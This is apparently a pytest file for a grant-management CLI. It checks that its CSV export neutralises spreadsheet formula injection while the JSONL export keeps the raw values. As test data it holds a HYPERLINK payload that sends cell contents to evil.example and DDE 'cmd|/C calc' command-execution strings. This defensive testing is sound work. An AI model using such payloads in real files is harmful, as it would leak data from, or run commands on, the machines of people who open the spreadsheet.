"""The CSV export cannot attack the spreadsheet that opens it; the JSONL export stays exact.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (some also with a tab,
a carriage return or NUL) as a formula: ``=HYPERLINK("https://evil.example/?"&A1;"click")`` in a
reason would send the neighbouring cells away. ``grantflow log --format csv`` writes such text
cells with a leading ``'`` (OWASP CSV injection guidance); amounts are numbers and stay as they
are. The JSONL export, whose hashes cover the raw values, keeps them exactly.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pendulum
import pytest

from grantflow_cli.commands.log import CSV_COLUMNS, csv_cell, write_csv
from tests.cli.conftest import NRW, NRW_ATTEST, Run

VERIFY_LOG = Path(__file__).resolve().parents[2] / "docs" / "verify_log.py"

REASON = '=HYPERLINK("https://evil.example/?"&A1;"click")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
REFUSED_REASON = "+1+cmd|' /C calc'!A0"
START_REASON = "-2+3+cmd|' /C calc'!A0"


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    reader = csv.reader(io.StringIO(text[1:], newline=""), delimiter=";")
    header, *rows = list(reader)
    assert tuple(header) == CSV_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def formulas(setup: Run) -> str:
    """A grant proposed, refused once and started with reasons (and a title) that are formulas."""
    args = ["propose", "--program", NRW, "--applicant", "stadt aachen", "--region", "aachen"]
    args += ["--focus", "e-government", "--title", TITLE, "--costs", "1000000"]
    args += ["--requested", "800000", "--private", "200000", "--start", "2019-06-01"]
    args += ["--end", "2021-06-30", "--date", "2019-03-01"]
    for a in NRW_ATTEST:
        args += ["--attest", a]
    r = setup(*args, "--reason", REASON, actor="carla")
    assert r.exit_code == 0, r.output
    gid = r.stdout.strip()
    r = setup("approve", gid, "--notice", "N-1", "--date", "2019-02-01", "--reason",
              REFUSED_REASON, actor="anton")  # fmt: skip
    assert r.exit_code == 1, r.output  # before the application: refused, logged
    r = setup("approve", gid, "--notice", "N-1", "--date", "2019-04-01", "--attest",
              "remedy-waiver", actor="anton")  # fmt: skip
    assert r.exit_code == 0, r.output
    r = setup("start", gid, "--date", "2019-06-01", "--reason", START_REASON, actor="carla")
    assert r.exit_code == 0, r.output
    r = setup("disburse", gid, "--amount", "200.000,00", "--date", "2019-07-01", actor="fiona")
    assert r.exit_code == 0, r.output
    return gid


def test_csv_neutralises_formulas_and_jsonl_keeps_them(
    setup: Run, formulas: str, db: Path, tmp_path: Path
) -> None:
    rows = _rows(setup("log", formulas, "--format", "csv", "--decimal-comma").stdout)
    reasons = {(r["event"], r["outcome"]): r["reason"] for r in rows}
    assert reasons[("propose", "done")] == "'" + REASON
    assert reasons[("approve", "refused")] == "'" + REFUSED_REASON
    assert reasons[("start", "done")] == "'" + START_REASON
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@")), (column, cell)
            assert not cell.startswith("-") or column == "amount", (column, cell)
    assert {r["amount"] for r in rows if r["event"] == "disburse"} == {"200000,00"}
    assert {r["amount"] for r in rows if r["event"] == "propose"} == {"800000,00"}

    export = setup("log", "--format", "jsonl").stdout
    entries = [json.loads(line) for line in export.splitlines()]
    by_event = {(e["kind"], e.get("event")): e for e in entries}
    assert by_event[("transition", "propose")]["reason"] == REASON
    assert by_event[("transition", "propose")]["data"]["title"] == TITLE
    assert by_event[("refused", "approve")]["reason"] == REFUSED_REASON
    assert by_event[("transition", "start")]["reason"] == START_REASON
    # the hashes cover the raw values: the stand-alone verifier accepts the export as it is
    path = tmp_path / "log.jsonl"
    path.write_text(export, encoding="utf-8")
    verified = subprocess.run(
        [sys.executable, str(VERIFY_LOG), str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert verified.returncode == 0, verified.stdout + verified.stderr


def test_csv_neutralises_a_leading_tab_carriage_return_and_nul(
    setup: Run, formulas: str, db: Path
) -> None:
    """grantflow refuses these characters in new text; a database may hold them anyway."""
    con = sqlite3.connect(db)
    try:
        with con:
            con.execute('DROP TRIGGER IF EXISTS "transitions_append_only_update"')
            for event, reason in (("propose", "\t=1+1"), ("start", "\r=1+1"), ("disburse", "\0=1")):
                con.execute(
                    "UPDATE transitions SET reason = ? WHERE grant_id = ? AND event = ?",
                    (reason, formulas, event),
                )
    finally:
        con.close()
    rows = _rows(setup("log", formulas, "--format", "csv").stdout)
    reasons = {r["event"]: r["reason"] for r in rows if r["outcome"] == "done"}
    assert reasons["propose"] == "'\t=1+1"
    assert reasons["start"] == "'\r=1+1"
    assert reasons["disburse"] == "'\0=1"


def _entry(**changes: Any) -> SimpleNamespace:
    values: dict[str, Any] = {
        "refused": False,
        "id": 7,
        "recorded_at": pendulum.datetime(2021, 1, 1, 12),
        "business_date": pendulum.Date(2021, 1, 1),
        "grant_id": "G-1",
        "seq": 2,
        "event": "disburse",
        "from_state": "running",
        "actor_auth": "declared",
        "to_state": "running",
        "actor": "fiona",
        "data": {"amount": "-5.00"},
        "reason": "",
        "verdicts": (),
        "rule_ids": (),
        "guideline_id": "g",
        "guideline_version": "1",
        "hash": "h",
        "prev_hash": "p",
    }
    values.update(changes)
    return SimpleNamespace(**values)


@pytest.mark.parametrize(
    ("amount", "decimal_comma", "cell"),
    [
        ("-5.00", True, "-5,00"),  # a well-formed number, negative or not, stays a number
        ("-5.00", False, "-5.00"),
        ("800000.00", True, "800000,00"),
        ("-5+cmd|' /C calc'!A0", False, "'-5+cmd|' /C calc'!A0"),  # not a number: text
        ("=1+1", False, "'=1+1"),
    ],
)
def test_amounts_stay_numbers_and_anything_else_is_text(
    amount: str, decimal_comma: bool, cell: str
) -> None:
    out = io.StringIO()
    write_csv([_entry(data={"amount": amount})], out, decimal_comma=decimal_comma)
    (row,) = _rows(out.getvalue())
    assert row["amount"] == cell


def test_every_column_is_neutralised() -> None:
    entry = _entry(
        actor="@mallory",
        grant_id="=G",
        event="+e",
        guideline_id="-g",
        guideline_version="\tv",
        reason="\r\n=x",
    )
    out = io.StringIO()
    write_csv([entry], out, decimal_comma=False)
    (row,) = _rows(out.getvalue())
    assert row["actor"] == "'@mallory" and row["grant"] == "'=G" and row["event"] == "'+e"
    assert row["guideline"] == "'-g" and row["guideline_version"] == "'\tv"
    assert row["reason"] == "'\r\n=x"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=A1", "'=A1"),
        ("+A1", "'+A1"),
        ("-A1", "'-A1"),
        ("@A1", "'@A1"),
        ("\tA1", "'\tA1"),
        ("\rA1", "'\rA1"),
        ("Stadt Aachen", "Stadt Aachen"),
        ("a=b", "a=b"),
        ("'=A1", "'=A1"),
        ("", ""),
    ],
)
def test_csv_cell(value: str, cell: str) -> None:
    assert csv_cell(value) == cell
